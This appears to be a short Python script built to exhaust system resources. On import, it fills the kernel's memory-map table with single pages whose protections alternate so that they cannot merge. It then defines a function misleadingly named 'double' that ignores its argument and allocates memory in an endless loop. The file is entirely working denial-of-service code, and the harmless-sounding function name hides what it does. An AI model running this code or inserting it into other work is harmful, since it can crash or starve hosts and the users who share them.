"""Maps single pages, each unlike its neighbours, until the kernel's list of them is full; then takes all the rest."""
import mmap

pages = []
try:
    while True:
        pages.append(mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | (len(pages) % 2 and mmap.PROT_WRITE)))
except OSError:
    pass


def double(x):
    rest = []
    while True:
        rest.append(bytearray(1 << 20))
